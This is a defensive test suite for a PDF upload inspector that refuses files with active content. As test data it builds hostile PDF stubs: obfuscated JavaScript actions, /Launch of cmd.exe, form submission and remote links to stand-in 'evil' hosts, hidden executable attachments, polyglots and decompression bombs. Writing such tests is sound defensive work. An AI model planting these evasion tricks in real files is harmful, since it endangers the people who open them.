import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import PdfKit from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { parsePdfObjects } from '../../formats/parsePdfObjects.ts';
import { buildOffice } from '../../testing/office/buildOffice.ts';
import { buildZip } from '../../testing/office/buildZip.ts';
import {
  areFine,
  areRefused,
  kb,
  mb,
  secondsFor,
  webPage,
  windowsProgram,
} from '../../testing/office/judgeFiles.ts';
import { inspectFile } from './inspectFile.ts';

const europass = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?><Candidate><Name>Anna</Name></Candidate>',
);
const plain = await drawnPdf();
const second = '%PDF-1.4 9 0 obj<</S 8 0 R/JS 7 0 R>> endobj trailer<</Root 9 0 R>>';
/** Zeros, a number, then `acsp`, the mark of such a profile. */
const profileInLetters = 'zzzzzzzz!!!$"@:O@tz~>';
const packed = readFileSync(new URL('../../compiler/assets/fixtures/packed.pdf', import.meta.url));

describe('PDF', () => {
  const docx = buildOffice('docx');
  const placeOf = (text: string) => plain.lastIndexOf(text);
  areFine([
    ['one of pdfkit', 'CV.PDF', plain],
    ['one with data in XML, as of Europass', 'a.pdf', drawnPdf({ attachment: europass })],
    ['one whose texts speak of JavaScript', 'a.pdf', pdfWith('<</Title(Java/JavaScript, and /Launch)>>')],
    [
      'links and a first page',
      'a.pdf',
      pdfWith('<</S/URI/URI(https://example.com)>>', '<</S/GoTo/D[1 0 R]>>'),
    ],
    [
      'one whose objects are packed',
      'a.pdf',
      pdfWith(objectStream('<</Type/Action/S/URI/URI(https://a.it)>>')),
    ],
    [
      'one whose texts speak of objects',
      'a.pdf',
      pdfWith('<</Title(Obj. 5: obj and trailers, a trailer, objects)>>'),
    ],
    [
      'a way into a file beside it',
      'a.pdf',
      pdfWith('<</S/GoToR/F(other.pdf)/D(p1)>>', '<</S/GoToR/F<</F(a b.pdf)/UF(a b.pdf)>>>>'),
    ],
    ['names that are kept elsewhere', 'a.pdf', pdfWith('<</S 11 0 R/Font<</S 12 0 R>>>>', '/P', '<<>>')],
    ['one behind a lock, whose objects lie open', 'a.pdf', pdfWith('<<>>', '<</Encrypt 9 0 R>>')],
    ['a thread of its own', 'a.pdf', pdfWith('<</S/Thread/D 0>>')],
    ['one that says the same twice', 'a.pdf', pdfWith('<</Type/ExtGState/Type/ExtGState/CA 1/CA 1>>')],
    ['one with two titles', 'a.pdf', pdfWith('<</Title(One)/Title(Two)>>')],
    ['one with a profile of colours', 'a.pdf', pdfWith(`<</N 3>>stream\n${'acsp'.padStart(40)}\nendstream`)],
    [
      'one with a profile of colours in letters, as of ImageMagick',
      'a.pdf',
      pdfWith(`<</N 1/Filter/ASCII85Decode>>stream\n${profileInLetters}\nendstream`),
    ],
    ['line ends and zeros behind it', 'a.pdf', Buffer.concat([plain, Buffer.from('\r\n\n\0\0\0')])],
    ['one with a later revision', 'a.pdf', Buffer.concat([plain, plain.subarray(placeOf('trailer'))])],
  ]);
  areRefused([
    ['a web page', 'a.pdf', webPage],
    ['a document', 'a.pdf', docx],
    ['one cut in the middle', 'a.pdf', plain.subarray(0, plain.length / 2)],
    ['one without its end', 'a.pdf', plain.subarray(0, placeOf('%%EOF'))],
    ['one behind a web page', 'a.pdf', Buffer.concat([webPage, plain])],
    ['one behind a program', 'a.pdf', Buffer.concat([windowsProgram, plain])],
    ['one before a program', 'a.pdf', Buffer.concat([plain, windowsProgram, Buffer.alloc(2 * kb)])],
    ['one before an archive', 'a.pdf', Buffer.concat([plain, docx])],
    [
      'one before an archive before its own end',
      'a.pdf',
      Buffer.concat([plain, docx, plain.subarray(placeOf('startxref'))]),
    ],
    ['one in the comment of an archive', 'a.pdf', inComment(plain)],
  ]);

  areRefused(
    [
      ['a script', 'a.pdf', pdfWith('<</S/JavaScript/JS(app.alert(1))>>')],
      ['a script with another spelling', 'a.pdf', pdfWith('<</S/J#61v#61Script/#4aS(app.alert(1))>>')],
      ['a script at opening', 'a.pdf', pdfWith('<</OpenAction<</S /JavaScript /JS 9 0 R>>>>')],
      ['a script of a drawing', 'a.pdf', pdfWith('<</Type/3D/OnInstantiate 9 0 R>>stream\nU3D\nendstream')],
      ['scripts by name', 'a.pdf', pdfWith('<</Names<</JavaScript 9 0 R>>>>')],
      ['a script in a comment', 'a.pdf', pdfWith('<<>>\n% <</S/JavaScript>>')],
      ['a script in a list', 'a.pdf', pdfWith('[[<</Next[<</JS(1)>>]>>]]')],
      ['a script among packed objects', 'a.pdf', pdfWith(objectStream('<</S/JavaScript/JS(1)>>'))],
      [
        'a script among objects that are packed by another name',
        'a.pdf',
        pdfWith(objectStream('<</JS(1)>>', '/Type/Obj#53tm')),
      ],
      [
        'packed objects inside a stream',
        'a.pdf',
        pdfWith(`<</Length 999>>stream\n${objectStream('<</JS(1)>>')}`),
      ],
      [
        'packed objects behind a letter',
        'a.pdf',
        pdfWith(`1\nendobj\nx9 0 obj ${objectStream('<</JS(1)>>')}`),
      ],
      ['a script with another spelling, packed', 'a.pdf', pdfWith(objectStream('<</S/#4a#61vaScript>>'))],
      ['a script in a later revision', 'a.pdf', Buffer.concat([plain, pdfWith('<</JS(1)>>')])],
      [
        'a script inside a stream',
        'a.pdf',
        pdfWith('<</Length 40>>stream\n9 0 obj <</S /#4aavaScript>> endobj\nendstream'),
      ],
      ['a second PDF inside a text', 'a.pdf', pdfWith(`<</Title(${second})>>`)],
      ['an object inside a text', 'a.pdf', pdfWith('<</Title(9 0 obj<</S 8 0 R/JS 7 0 R>>)>>')],
      [
        'an object inside a text, far apart',
        'a.pdf',
        pdfWith(`<</Title(9 0${' '.repeat(20)}obj<</JS 7 0 R>>)>>`),
      ],
      ['an object inside a text, with zeros', 'a.pdf', pdfWith('<</Title(9\0 0\0obj<</JS 7 0 R>>)>>')],
      ['an object behind a long number', 'a.pdf', pdfWith('1\nendobj\n000000000009 0 obj<</JS 7 0 R>>')],
      ['an object in a comment', 'a.pdf', pdfWith('1 % 9 0 obj<</JS 7 0 R>>\n')],
      ['an object broken by a comment', 'a.pdf', pdfWith('1\nendobj\n9 0 %\nobj<</JS 7 0 R>>')],
      [
        'a last part inside a text',
        'a.pdf',
        pdfWith('(trailer <</Root<</OpenAction<</S 8 0 R/JS 7 0 R>>>>>>)'),
      ],
      [
        'a second PDF inside a text, beside objects that only we see',
        'a.pdf',
        pdfWith(`<</Title(${second})>>`, ...Array.from({ length: 9 }, () => '1\nendobj\ntrailer %\n<<>>')),
      ],
      [
        'packed objects inside a text, beside one that says it is some',
        'a.pdf',
        pdfWith(objectStream('<</Type/ObjStm>>'), '<</Title(<</Type/ObjStm/N 1>>)>>'),
      ],
      ['a script under a key that is written twice', 'a.pdf', pdfWith('<</A<</JS(1)>>/A null>>')],
      ['an action that is written twice', 'a.pdf', pdfWith('<</S 8 0 R/S/URI>>')],
      ['a script behind a key that is no name', 'a.pdf', pdfWith('<</SJavaScript/JS(1)>>')],
      ['a script in what stands for a key', 'a.pdf', pdfWith('<</Type/P<</JavaScript 9 0 R>>>>')],
      [
        'packed objects that are counted elsewhere',
        'a.pdf',
        pdfWith(objectStream('<</JS(1)>>', '/Type/ObjStm', '/N 5 0 R/First 4')),
      ],
      ['packed objects that do not say so', 'a.pdf', pdfWith(objectStream('<</JS(1)>>', ''))],
      ['packed objects that say to be a profile', 'a.pdf', pdfWith(objectStream('<</JS(1)>>', '', '/N 1'))],
      ['packed objects that begin nowhere', 'a.pdf', pdfWith(objectStream('<<>>', '/Type/ObjStm', '/N 1'))],
      [
        'fewer packed objects than counted',
        'a.pdf',
        pdfWith(objectStream('<<>>', '/Type/ObjStm', '/N 2/First 4')),
      ],
      [
        'packed objects packed twice',
        'a.pdf',
        pdfWith(objectStream('<<>>', '/Type/ObjStm', '/N 1/First 4/DecodeParms<</Predictor 12>>')),
      ],
      [
        'packed objects packed by a short name',
        'a.pdf',
        pdfWith(objectStream('<<>>', '/Type/ObjStm', '/N 1/First 4/DP<</Predictor 12>>')),
      ],
      ['bytes of another file', 'a.pdf', pdfWith('<</Length 0/F(\\\\\\\\evil\\\\a)>>stream\n\nendstream')],
      ['a way into another file', 'a.pdf', pdfWith('<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>')],
      [
        'a way into another file, named in parts',
        'a.pdf',
        pdfWith('<</S/GoToR/F<</F(a.pdf)/UF(//evil/a.pdf)>>>>'),
      ],
      ['a way into another file, named for one system', 'a.pdf', pdfWith('<</S/GoToR/F<</DOS(//evil/a)>>>>')],
      ['a way into another file, named elsewhere', 'a.pdf', pdfWith('<</S/GoToR/F 9 0 R>>')],
      ['answers that are sent away', 'a.pdf', pdfWith('<</S/SubmitForm/F(https://evil.example)>>')],
      ['an attachment that nothing names', 'a.pdf', pdfWith('<</Type/EmbeddedFile>>stream\nMZ\nendstream')],
      ['a program to start', 'a.pdf', pdfWith('<</S/Launch/F(cmd.exe)>>')],
      ['a program to start, named elsewhere', 'a.pdf', pdfWith('<</S 11 0 R/F(cmd.exe)>>', '/Launch')],
      ['an action named by a packed object', 'a.pdf', pdfWith(objectStream('/#4caunch'), '<</S 9 0 R>>')],
      ['an action named in two steps', 'a.pdf', pdfWith('<</S 11 0 R>>', '12 0 R', '/SubmitForm')],
      ['an action named before it', 'a.pdf', pdfWith('/GoToE', '<</A<</S 10 0 R>>>>')],
      ['a way into another file, called elsewhere', 'a.pdf', pdfWith('/GoToR', '<</S 10 0 R/F(//evil)>>')],
      ['a film of another server', 'a.pdf', pdfWith('<</S/Rendition/R<</C<</D(//evil/a.mp4)>>>>>>')],
      ['an old film of another server', 'a.pdf', pdfWith('<</Subtype/Movie/Movie<</F(//evil/a.avi)>>>>')],
      ['a thread of another file', 'a.pdf', pdfWith('<</S/Thread/D 0/F(\\\\\\\\evil\\\\a.pdf)>>')],
      [
        'an attachment that is written twice',
        'a.pdf',
        pdfWith(
          '<</EF<</F 11 0 R>>>>',
          '<<>>stream\nMZ\nendstream\nendobj\n11 0 obj\n<<>>stream\n<?xml version="1.0"?>\nendstream',
        ),
      ],
      ['forms of XFA', 'a.pdf', pdfWith('<</AcroForm<</XFA 9 0 R>>>>')],
      [
        'a profile of colours with letters that readers take apart in several ways',
        'a.pdf',
        pdfWith(
          `<</N 1/Filter/ASCII85Decode>>stream\n${profileInLetters.replace('zz', '!!z!!!')}\nendstream`,
        ),
      ],
      ['a document in its place', 'a.pdf', pdfWith('<</AdditionalStreams[/application#2Fodt 9 0 R]>>')],
      ['an attachment, packed', 'a.pdf', drawnPdf({ attachment: docx, compress: true })],
      ['an attachment as it is', 'a.pdf', drawnPdf({ attachment: docx, compress: false })],
      [
        'an attachment that only begins as XML',
        'a.pdf',
        drawnPdf({ attachment: Buffer.from('<?xml version="1.0"?>\0MZ') }),
      ],
      ['an attachment among packed objects', 'a.pdf', packed],
      [
        'an attachment that is named elsewhere',
        'a.pdf',
        pdfWith('<</EF 11 0 R>>', '<</F 12 0 R>>', '<<>>stream\nMZ\nendstream'),
      ],
      ['an attachment that is not there', 'a.pdf', pdfWith('<</EF<</F 99 0 R>>>>')],
      ['packed objects behind a lock', 'a.pdf', pdfWith(objectStream('<<>>'), '<</Encrypt 9 0 R>>')],
      [
        'objects packed in an unknown way',
        'a.pdf',
        pdfWith('<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nx\nendstream'),
      ],
      ['an object that cannot be read', 'a.pdf', pdfWith('<</Title(')],
    ],
    'activeContent',
  );

  it.each(['9 0 obj (', '9 0 obj [', '9 0 obj <</a', '9 0 obj <<>>stream\n', '9 0 obj 1\n'])(
    'is not slow at a PDF full of %s',
    async (piece) => {
      const pdf = pdfWith(piece.repeat((5 * mb) / piece.length));
      // What looks at the rest again for each piece takes hours.
      expect(['fileType', 'activeContent', undefined]).toContain(await inspectFile('a.pdf', pdf));
    },
  );

  const list = `[${'0 '.repeat(50_000)}]`;
  const blanks = Buffer.alloc(40 * mb, ' ').toString('latin1');
  const bursting: Record<string, string[]> = {
    'one object under many numbers': [pack('1 0 '.repeat(500), list)],
    'objects within each other': [pack(placesOf(500), '['.repeat(500) + list)],
    'a value without an end': [`[${'0 '.repeat(2 * mb)}]`],
    'pairs that nobody counts': Array.from({ length: 20 }, () => pack('1 0 '.repeat(mb), '', 0)),
    'packs that burst together': Array.from({ length: 20 }, () => pack('', blanks, 0)),
    'attachments that burst together': Array.from({ length: 400 }, () =>
      stream('/Type/EmbeddedFile', `<?xml version="1.0"?>${blanks.slice(0, 5 * mb - 100)}`),
    ),
  };
  it.each(Object.entries(bursting))('is not slow at a PDF of %s', async (_, objects) => {
    const pdf = pdfWith(...objects);
    const before = process.cpuUsage();
    expect(['activeContent', undefined]).toContain(await inspectFile('a.pdf', pdf));
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(2);
  });

  const most = (piece: string, size = 19 * mb) => piece.repeat(size / piece.length);
  const halting: Record<string, string> = {
    'a name of letters as numbers': `/${most('#41')}`,
    'a comment of letters as numbers': `1 %${most('#41')}\n`,
    'a stream of letters as numbers': `<<>>stream\n${most('#41')}\nendstream`,
    'words for packed objects': `<<>>stream\n${most('/ObjStm ')}\nendstream`,
    'packed objects in letters': `<</N 0/First 0/Filter/ASCII85Decode>>stream\n${most('z', 7 * mb)}~>\nendstream`,
  };
  it.each(Object.entries(halting))('holds nobody up with %s', async (_, object) => {
    expect(await secondsFor('a.pdf', pdfWith(object))).toBeLessThan(1);
  });

  it('takes packs as large as producers make them', async () => {
    const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 9 0 R>>\n';
    const pairs = Array.from({ length: 5000 }, (_, index) => `${index} ${index * page.length} `).join('');
    expect(await inspectFile('a.pdf', pdfWith(pack(pairs, page.repeat(5000), 5000)))).toBeUndefined();
  });

  it('is not slow at a PDF full of ends of archives', async () => {
    const ends = Buffer.alloc(5 * mb, 'PK\x05\x06\x00\x00\x00');
    const pdf = Buffer.concat([
      Buffer.from('%PDF-1.4\nstream\n'),
      ends,
      Buffer.from('\nstartxref\n1\n%%EOF'),
    ]);
    // Time of the processor: what else the machine does costs none.
    const before = process.cpuUsage();
    await inspectFile('a.pdf', pdf);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1e6).toBeLessThan(2);
  });

  it('reads a stream with a length below nothing once', async () => {
    const before = '1 0 obj\n<</Length -0059>>stream\n';
    const pdf = Buffer.from(
      `%PDF-1.4\nendstream\n${'%'.repeat(16)}\n${before}x\nendstream\nstartxref\n0\n%%EOF\n`,
    );
    const text = pdf.toString('latin1');
    expect(text.indexOf('stream\nx') + 'stream\n'.length - 59).toBe(text.indexOf('endstream'));
    expect([...parsePdfObjects(pdf)]).toHaveLength(1);
  });

  /** An archive in a stream whose comment is the rest of the PDF. */
  function inComment(pdf: Buffer): Buffer {
    const zip = buildZip([{ name: 'a', data: 'b' }], 'x'.repeat(pdf.length + 10));
    const start = '%PDF-1.7\n1 0 obj\n<<>>\nstream\n';
    return Buffer.concat([
      Buffer.from(start),
      zip.subarray(0, -pdf.length - 10),
      Buffer.from('\nendstream'),
      pdf,
    ]);
  }
});

function drawnPdf(options: { attachment?: Buffer; compress?: boolean } = {}): Promise<Buffer> {
  return new Promise((resolve) => {
    const pdf = new PdfKit({ compress: options.compress ?? true });
    const chunks: Buffer[] = [];
    pdf.on('data', (chunk: Buffer) => chunks.push(chunk));
    pdf.on('end', () => resolve(Buffer.concat(chunks)));
    pdf.text('Curriculum vitae');
    if (options.attachment) pdf.file(options.attachment, { name: 'attachment' });
    pdf.end();
  });
}

/** A small PDF with these objects. */
function pdfWith(...objects: string[]): Buffer {
  const bodies = objects.map((object, index) => `${index + 10} 0 obj\n${object}\nendobj\n`);
  return Buffer.from(`%PDF-1.7\n${bodies.join('')}trailer<</Size 1>>\nstartxref\n0\n%%EOF\n`, 'latin1');
}

/** An object among packed ones. */
function objectStream(object: string, type = '/Type/ObjStm', count = '/N 1/First 4'): string {
  return stream(type + count, `9 0 ${object}`);
}

/** Packed objects as these pairs name them. */
function pack(pairs: string, objects: string, count = pairs.split(' ').length >> 1): string {
  return stream(`/Type/ObjStm/N ${count}/First ${pairs.length}`, pairs + objects);
}

function placesOf(count: number): string {
  return Array.from({ length: count }, (_, index) => `${index} ${index} `).join('');
}

function stream(keys: string, content: string): string {
  const packed = deflateSync(Buffer.from(content, 'latin1')).toString('latin1');
  return `<<${keys}/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream`;
}
